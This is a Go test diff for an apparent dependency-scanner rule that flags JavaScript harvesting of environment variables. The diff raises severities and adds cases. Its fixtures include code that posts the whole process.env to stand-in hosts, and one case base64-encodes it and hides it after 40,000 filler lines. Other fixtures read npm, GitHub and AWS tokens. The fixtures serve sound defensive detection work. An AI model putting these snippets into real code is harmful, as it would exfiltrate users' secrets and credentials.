@@ -1,6 +1,7 @@
 package cred
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/depfence/depfence/internal/finding"
@@ -9,15 +10,20 @@ import (
 
 func TestEnvHarvest(t *testing.T) {
 	rt.Check(t, EnvHarvest{}, []rt.Case{
-		{"stringify", map[string]string{"index.js": `fetch(u, {method:"POST", body: JSON.stringify(process.env)})`}, finding.SeverityHigh},
-		{"querystring_env", map[string]string{"index.js": `https.get("https://x.example.invalid/?" + querystring.stringify(process.env))`}, finding.SeverityHigh},
-		{"env_in_payload", map[string]string{"index.js": `const d = JSON.stringify({h: 1, e: process.env}); require("https").request({hostname: "t.example.invalid", method: "POST"}).end(d)`}, finding.SeverityHigh},
+		{"stringify", map[string]string{"index.js": `fetch(u, {method:"POST", body: JSON.stringify(process.env)})`}, finding.SeverityCritical},
+		{"querystring_env", map[string]string{"index.js": `https.get("https://x.example.invalid/?" + querystring.stringify(process.env))`}, finding.SeverityCritical},
+		{"env_in_payload", map[string]string{"index.js": `const d = JSON.stringify({h: 1, e: process.env}); require("https").request({hostname: "t.example.invalid", method: "POST"}).end(d)`}, finding.SeverityCritical},
 		{"env_in_options", map[string]string{"index.js": `configure({ environment: process.env })`}, finding.SeverityMedium},
 		{"object_keys", map[string]string{"index.js": `for (const k of Object.keys(process.env)) {}`}, finding.SeverityMedium},
 		{"tokens", map[string]string{"index.js": `const a = process.env.NPM_TOKEN, b = process.env.GITHUB_TOKEN, c = process.env.AWS_SECRET_ACCESS_KEY`}, finding.SeverityMedium},
 		{"tokens_by_list", map[string]string{"index.js": `const out = {}; for (const k of ["NPM_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"]) out[k] = process.env[k]`}, finding.SeverityMedium},
 		// a list of names that are not read through process.env[k]
 		{"token_names_as_labels", map[string]string{"index.js": `const labels = ["NPM_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"]; const x = process.env.HOME`}, finding.SeverityNone},
+		// the object itself in a request body is exfiltration, even
+		// appended to a multi-megabyte bundle
+		{"sent_in_bundle", map[string]string{"index.js": strings.Repeat("var a = b + c;\n", 40000) +
+			`require("https").request({ hostname: "c.example.invalid", method: "POST" }).end(Buffer.from(JSON.stringify(process.env)).toString("base64"))`}, finding.SeverityCritical},
+		{"one_var_in_request", map[string]string{"index.js": `fetch(u, { headers: { "x-home": process.env.HOME } })`}, finding.SeverityNone},
 		{"spawn_env_spread", map[string]string{"index.js": `require("child_process").spawn("node", [], {env: {...process.env, X: "1"}})`}, finding.SeverityNone},
 		{"node_env", map[string]string{"index.js": `if (process.env.NODE_ENV === "production") {}`}, finding.SeverityNone},
 	})
